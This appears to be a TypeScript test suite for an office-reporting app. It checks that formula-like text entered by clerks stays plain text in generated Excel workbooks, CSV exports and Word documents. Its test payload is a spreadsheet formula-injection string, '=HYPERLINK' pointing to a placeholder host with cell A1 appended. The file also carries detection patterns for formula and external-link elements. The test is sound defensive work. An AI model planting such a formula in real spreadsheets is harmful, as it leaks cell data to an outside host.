import { Writable } from "node:stream";
import { unzipSync } from "fflate";
import { beforeAll, describe, expect, test } from "vitest";
import { FORMS } from "../../domain/forms/catalogue/catalogue.ts";
import type { Column } from "../../domain/forms/column.ts";
import type { OrganisationFacts } from "../../domain/facts/facts.ts";
import type { Filling, Paper, PaperTable } from "../../domain/paper/part/paper.ts";
import { CSV_TABLES } from "../../domain/vocabulary/csv-table.ts";
import { officeFacts, type OfficeReport, reportOf, someUnits } from "../../infra/local/office-report.ts";
import { writeAnnexWorkbook } from "../../lambda/workbook/annex/annex-workbook.ts";
import { writeCommitteeWorkbook } from "../../lambda/workbook/committee/committee-workbook.ts";
import { csvTable } from "../../lambda/workbook/csv/csv-tables.ts";
import { writeCsv } from "../../lambda/workbook/csv/write-csv.ts";
import { writeOutcomeWorkbook } from "../../lambda/workbook/outcome/outcome-workbook.ts";
import { fillPaper } from "../../lambda/workbook/paper/fill-paper.ts";
import { ownTemplate } from "../../lambda/workbook/paper/template/templates.ts";
import { PAPERS } from "../paper/every-kind.ts";

/** What a clerk might type into any cell that takes a text. */
const HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"bấm vào đây")';
const hostile = (text: string): string => `${HOSTILE} ${text}`;

/** The office with the hostile text before every text of every form, the settings and the letterhead among them. */
function hostileFacts(): OrganisationFacts {
  const columnsOf = new Map<string, Readonly<Record<string, Column>>>(
    FORMS.map(({ id, columns }) => [id, columns]),
  );
  const facts = someUnits(officeFacts(), ["cb-hoi-dong", "hoi-ccb"]);
  const registers = facts.registers.map((register) => ({
    ...register,
    rows: register.rows.map((row) => {
      // Values of settings are numbers and choices of the rule book, by the name of the setting.
      if (row.form === "settings") return row;
      const fields = Object.entries(row.fields).map(([name, value]) => {
        const column = columnsOf.get(row.form)?.[name];
        const isText = column?.kind === "text" && typeof value === "string";
        if (!isText || column.code !== undefined || column.texts !== undefined) return [name, value];
        return [name, hostile(value).slice(0, column.max)];
      });
      return { ...row, fields: Object.fromEntries(fields) as typeof row.fields };
    }),
  }));
  return { ...facts, registers };
}

async function collect(write: (sink: Writable) => Promise<unknown>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      chunks.push(chunk);
      done();
    },
  });
  await write(sink);
  return Buffer.concat(chunks);
}

/** The XML parts of a package, but those in which a text stands as a text. */
function partsOf(file: Uint8Array): readonly string[] {
  return Object.values(unzipSync(file)).map((part) => new TextDecoder().decode(part));
}

let report: OfficeReport;
beforeAll(() => {
  report = reportOf(hostileFacts());
});

describe("a text that would be a formula stays a text in every cell of", () => {
  test.each([
    ["the committee's workbook", writeCommitteeWorkbook],
    ["its annex", writeAnnexWorkbook],
    ["the results", writeOutcomeWorkbook],
  ] as const)("%s", async (_name, write) => {
    const parts = partsOf(await collect((sink) => write(report, sink)));
    const xml = parts.join("\n");
    expect(xml).toContain("=HYPERLINK(");
    const elements = /<(f|formula1|formula2|definedName|oddHeader|oddFooter)\b[^>]*>([^<]*HYPERLINK[^<]*)</g;
    expect([...xml.matchAll(elements)].map(([whole]) => whole)).toEqual([]);
    expect(xml).not.toMatch(/TargetMode="External"|<hyperlink\b[^>]*x\.invalid/);
  });

  test.each(CSV_TABLES)("the table %s", async (name) => {
    const content = await csvTable(report, name);
    const text = (await collect((sink) => writeCsv(content, sink))).toString("utf8");
    expect(text).not.toMatch(/(^|[,\r\n\uFEFF])"?[=+@＝＋＠]/);
  });
});

/** Numbers stay, since a paper whose numbers contradict each other is not made. */
const isNumber = (text: string): boolean => /^\d*$/.test(text);
const said = (text: string): string => (isNumber(text) ? text : hostile(text));
const tableWith = ({ columns, rows }: PaperTable): PaperTable => ({
  columns,
  rows: rows.map((row) => row.map(said)),
});

function hostileFilling(filling: Filling): Filling {
  switch (filling.kind) {
    case "words":
      return { ...filling, text: said(filling.text) };
    case "paragraphs":
      return { ...filling, lines: filling.lines.map(hostile) };
    case "table":
      return { ...filling, table: tableWith(filling.table) };
    case "pages":
      return {
        ...filling,
        pages: filling.pages.map((page) => ({
          ...page,
          titles: page.titles.map(hostile),
          parts: page.parts.map(({ heading, lines, table }) => ({
            heading: hostile(heading),
            lines: lines.map(hostile),
            ...(table !== undefined && { table: tableWith(table) }),
          })),
        })),
      };
    case "certificates":
      return {
        ...filling,
        certificates: filling.certificates.map((one) => ({
          ...one,
          name: hostile(one.name),
          merit: hostile(one.merit),
        })),
      };
  }
}

describe("a text with the marks of a field and of XML stays a text in the paper", () => {
  const asFile = async (paper: Paper): Promise<string> => {
    const answer = await fillPaper(await ownTemplate(paper.kind), paper);
    return answer.kind === "filled" ? partsOf(answer.file).join("\n") : expect.unreachable(answer.kind);
  };
  const fields = (xml: string): readonly string[] =>
    [...xml.matchAll(/<w:(?:instrText|fldSimple|hyperlink)\b[^>]*>[^<]*/g)].map(([whole]) => whole);

  test.each(PAPERS.map((paper) => [paper.kind, paper.name, paper] as const))(
    "%s %s",
    async (_kind, _name, paper) => {
      const filled = Object.fromEntries(
        Object.entries(paper.filled).map(([tag, filling]) => [tag, hostileFilling(filling)]),
      );
      const xml = await asFile({ ...paper, filled });
      expect(xml).toContain("=HYPERLINK(");
      expect(fields(xml)).toEqual(fields(await asFile(paper)));
      expect(xml).not.toContain('TargetMode="External"');
    },
  );
});
